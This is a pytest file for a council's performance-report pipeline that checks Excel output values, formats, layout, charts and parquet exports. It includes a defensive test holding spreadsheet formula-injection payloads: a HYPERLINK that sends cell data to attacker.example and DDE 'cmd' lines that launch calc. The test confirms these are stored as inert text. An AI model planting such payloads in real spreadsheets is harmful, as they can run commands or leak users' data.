"""The published Excel returns look and behave like the council's reports.

Opened with openpyxl: sheet names, seed values and statuses in the right rows, status
fills, number formats, trends as arrows, frozen headers, filters, print set-up, the LGBF
pack's charts, and safety against formulas typed into notes.
"""

from __future__ import annotations

import shutil
import subprocess
import sys
import textwrap
import zipfile

import openpyxl
import pytest

from orchestration import settings
from orchestration.cli import run
from orchestration.publishing.cells import STATUS_FILLS
from tests.conftest import REPO, seed_line
from tests.returns_factory import write_return

A = "000_09dcfc9c775a2e22.txt"
Q = "001_1ca03212745a48c4.txt"
ANNUAL = "midlothian__childrens-services__2019-20__performance-report.xlsx"
QUARTER = "midlothian__childrens-services__2016-17-Q2__performance-report.xlsx"

# (workbook, sheet, PI code, column header, value as Excel holds it, status, seed, line, printed)
SEED_CELLS = [
    (ANNUAL, "PI Summary", "CS.CORP.SICKNESS", "2019/20", 11.02, "Off Target", A, 77, "11.02"),
    (ANNUAL, "PI Summary", "CS.CORP.SICKNESS", "2018/19", 9.32, "Off Target", A, 77, "9.32"),
    (ANNUAL, "PI Summary", "CS.CORP.BUDGET", "2019/20", 15.139, "On Target", A, 76, "£15.139m"),
    (ANNUAL, "PI Summary", "CS.CORP.INVOICES", "Q1 2019/20", 0.99, "On Target", A, 86, "99%"),
    (ANNUAL, "PI Summary", "CS.CORP.ACTIONS", "2019/20", 1.0, "On Target", A, 84, "100%"),
    (ANNUAL, "PI Summary", "CS.CORP.AUDIT_ACTIONS", "2018/19", 0.0, "On Target", A, 97, "0%"),
    (ANNUAL, "Complaints", "CS.COMP.RECEIVED_QTR", "Q4 2019/20", 9, "Data Only", A, 106, "\t9\t"),
    (ANNUAL, "Complaints", "CS.COMP.RECEIVED_QTR", "2019/20", 43, "Data Only", A, 106, "\t43\t"),
    (ANNUAL, "Complaints", "CS.COMP.S2_AVG_DAYS", "2019/20", 18.69, "On Target", A, 112, "18.69"),
    (
        ANNUAL,
        "Complaints",
        "CS.COMP.ESC_PCT_20D",
        "2019/20",
        0.7895,
        "Off Target",
        A,
        116,
        "78.95%",
    ),
    (
        ANNUAL,
        "Complaints",
        "CS.COMP.S1_PCT_5D",
        "Q4 2019/20",
        0.3333,
        "Off Target",
        A,
        114,
        "33.33%",
    ),
    (ANNUAL, "Balanced Scorecard", "BS.CSPC.04", "2017/18", 4893, "Data Only", A, 235, "4,893"),
    (
        ANNUAL,
        "Balanced Scorecard",
        "P.G.CSPC.3.3a",
        "2019/20",
        0.745,
        "Off Target",
        A,
        258,
        "74.5%",
    ),
    (
        ANNUAL,
        "Service Priority PIs",
        "xCSPC.P.2.1a",
        "2019/20",
        246,
        "Data Only",
        A,
        181,
        "\t246\t",
    ),
    (QUARTER, "PI Summary", "CS.CORP.SICKNESS", "Q2 2016/17", 6.40, "Off Target", Q, 47, "6.40"),
    (QUARTER, "PI Summary", "CS.CORP.SICKNESS", "Q2 2015/16", 5.94, "Off Target", Q, 47, "5.94"),
    (QUARTER, "PI Summary", "CS.CORP.SICKNESS", "2015/16", 12.84, "Off Target", Q, 47, "12.84"),
    (
        QUARTER,
        "Complaints",
        "CS.COMP.S2_AVG_DAYS",
        "Q2 2016/17",
        25.29,
        "On Target",
        Q,
        35,
        "25.29",
    ),
    (QUARTER, "Service Priority PIs", "CS.S.01.01a", "Q2 2016/17", 0.5, "On Target", Q, 94, "50%"),
    (QUARTER, "Balanced Scorecard", "BS.CS.14", "Q2 2016/17", 9, "On Target", Q, 136, "\t9\t"),
]


def _excel_dir():
    return settings.output_dir() / "excel"


def _find(ws, code: str, header: str):
    headers = {ws.cell(4, c).value: c for c in range(1, ws.max_column + 1)}
    row = next(r for r in range(5, ws.max_row + 1) if ws.cell(r, 2).value == code)
    return row, headers[header], headers["Status"]


@pytest.fixture(scope="module")
def annual(built_warehouse):
    return openpyxl.load_workbook(_excel_dir() / ANNUAL)


def test_every_period_has_a_report_with_a_predictable_name(built_warehouse):
    names = sorted(p.name for p in _excel_dir().glob("*__performance-report.xlsx"))
    assert ANNUAL in names and QUARTER in names and len(names) == 11


def test_sheet_names(annual):
    assert annual.sheetnames == [
        "PI Summary",
        "Complaints",
        "Actions",
        "Service Priority PIs",
        "Balanced Scorecard",
        "Risks",
        "LGBF",
    ]


@pytest.mark.parametrize(
    "book,sheet,code,header,value,status,seed,line,printed",
    SEED_CELLS,
    ids=[f"{c[2]}-{c[3]}" for c in SEED_CELLS],
)
def test_seed_values_and_statuses_in_the_right_rows(
    built_warehouse, book, sheet, code, header, value, status, seed, line, printed
):
    assert printed in seed_line(seed, line)
    ws = openpyxl.load_workbook(_excel_dir() / book)[sheet]
    row, col, status_col = _find(ws, code, header)
    assert ws.cell(row, col).value == pytest.approx(value, abs=5e-5)
    # the status cell belongs to the report's own period
    if header in ("2019/20", "Q2 2016/17"):
        assert ws.cell(row, status_col).value == status
        assert ws.cell(row, status_col).fill.fgColor.rgb == STATUS_FILLS[status].fgColor.rgb


def test_formats_trends_and_layout(annual):
    ws = annual["PI Summary"]
    row, col, status_col = _find(ws, "CS.CORP.SICKNESS", "2019/20")
    assert ws.cell(row, col).number_format == '0.00 "days"'
    assert ws.cell(row, status_col).fill.fgColor.rgb == "FFFFC7CE"  # Off Target: red
    # 11.02 days against 9.32 the year before (lower is better): getting worse
    headers = {ws.cell(4, c).value: c for c in range(1, ws.max_column + 1)}
    assert ws.cell(row, headers["Short Trend"]).value == "▼"
    assert "Number of days lost: 1,427.88" in ws.cell(row, headers["Feeder Data"]).value
    row, col, _ = _find(ws, "CS.CORP.BUDGET", "2019/20")
    assert ws.cell(row, col).number_format == '"£"#,##0.000"m"'
    row, col, _ = _find(ws, "CS.CORP.INVOICES", "2019/20")
    assert ws.cell(row, col).number_format == "0.00%"
    assert ws.freeze_panes == "A5" and ws.auto_filter.ref.startswith("A4:")
    assert ws.page_setup.orientation == "landscape" and ws.page_setup.fitToWidth == 1
    assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.print_title_rows == "$1:$4"
    actions = annual["Actions"]
    progress = next(
        actions.cell(r, 5)
        for r in range(5, actions.max_row + 1)
        if actions.cell(r, 1).value == "xCSPC.P.1.1"
    )
    assert progress.value == 1.0 and progress.number_format == "0%"
    risks = annual["Risks"]
    assert {
        risks.cell(r, 1).value: risks.cell(r, 6).value for r in range(5, risks.max_row + 1)
    } == {"C.RR.01-09": 9, "C.RR.01-10": 9, "C.RR.01-23": 12}


def test_lgbf_pack_has_a_chart_per_indicator(built_warehouse):
    pack = openpyxl.load_workbook(_excel_dir() / "midlothian__lgbf-benchmarking-pack.xlsx")
    assert pack.sheetnames == ["Summary", "Chart Data", "Charts"]
    summary = pack["Summary"]
    codes = [summary.cell(r, 1).value for r in range(5, summary.max_row + 1)]
    assert codes == ["CHN22", "CHN23", "CHN8a", "CHN8b", "CHN9"]
    assert len(pack["Charts"]._charts) == len(codes)


def test_parquet_exports(built_warehouse):
    import duckdb

    path = settings.output_dir() / "parquet" / "fct_indicator_value.parquet"
    n = duckdb.sql(f"select count(*) from '{path}'").fetchall()[0][0]
    with duckdb.connect(str(built_warehouse), read_only=True) as con:
        assert (
            n == con.execute("select count(*) from marts.fct_indicator_value").fetchone()[0] > 300
        )


HOSTILE = [
    '=HYPERLINK("http://attacker.example/steal?d="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]

READER = textwrap.dedent(
    """
    import sys, time, duckdb, json
    path, stop = sys.argv[1], sys.argv[2]
    con = duckdb.connect(path, read_only=True)
    seen = set()
    import os
    while not os.path.exists(stop):
        seen.add(con.execute(
            "select count(*), sum(hash(indicator_value_id, note)) from marts.fct_indicator_value"
        ).fetchone())
        time.sleep(0.05)
    print(json.dumps(sorted([list(s) for s in seen])))
    """
)


def test_hostile_notes_and_a_reader_during_rebuild(
    built_warehouse, instance, tmp_path, monkeypatch
):
    """A resubmitted Q3 2019/20 return carries formula-like notes. While it is loaded an
    analyst holds the published warehouse open read-only: both succeed, the reader only ever
    sees the old warehouse, and the new report shows the notes as plain text."""
    returns = tmp_path / "returns"
    shutil.copytree(REPO / "raw" / "returns", returns)
    write_return(
        returns / "midlothian__childrens-services__2019-20__Q3.xlsx",
        indicators=[
            (code, "Quarter", v, None, None, None, note)
            for (code, v), note in zip(
                [
                    ("CS.CORP.SICKNESS", 7.82),
                    ("CS.CORP.INVOICES", 0.98),
                    ("CS.CORP.ACTIONS", 1),
                    ("CS.CORP.BUDGET", 15.423),
                ],
                HOSTILE,
            )
        ],
    )
    import duckdb

    with duckdb.connect(str(built_warehouse), read_only=True) as con:
        old = con.execute(
            "select count(*), sum(hash(indicator_value_id, note)) from marts.fct_indicator_value"
        ).fetchone()
    stop = tmp_path / "stop"
    reader = subprocess.Popen(
        [sys.executable, "-c", READER, str(built_warehouse), str(stop)],
        stdout=subprocess.PIPE,
        text=True,
    )
    monkeypatch.setenv("RETURNS_DIR", str(returns))
    try:
        result = run(("2019-20-Q3", "2019-20-Q3"), instance=instance)
    finally:
        stop.touch()
        out, _ = reader.communicate(timeout=60)
    assert result.success
    import json

    assert [tuple(s) for s in json.loads(out)] == [tuple(old)]  # the old warehouse, whole
    with duckdb.connect(str(built_warehouse), read_only=True) as con:
        new = con.execute(
            "select count(*), sum(hash(indicator_value_id, note)) from marts.fct_indicator_value"
        ).fetchone()
    assert new != old

    report = _excel_dir() / "midlothian__childrens-services__2019-20-Q3__performance-report.xlsx"
    ws = openpyxl.load_workbook(report)["PI Summary"]
    headers = {ws.cell(4, c).value: c for c in range(1, ws.max_column + 1)}
    written = [ws.cell(r, headers["Note"]) for r in range(5, ws.max_row + 1)]
    hostile_cells = [c for c in written if c.value in HOSTILE]
    assert len(hostile_cells) == len(HOSTILE)
    for cell in hostile_cells:
        assert cell.data_type == "s" and cell.quotePrefix
    with zipfile.ZipFile(report) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert not any("<f>" in z.read(n).decode() for n in sheets), (
            "a cell was written as a formula"
        )

    # put the real Q3 return back for the rest of the session
    monkeypatch.setenv("RETURNS_DIR", str(REPO / "raw" / "returns"))
    assert run(("2019-20-Q3", "2019-20-Q3"), instance=instance).success
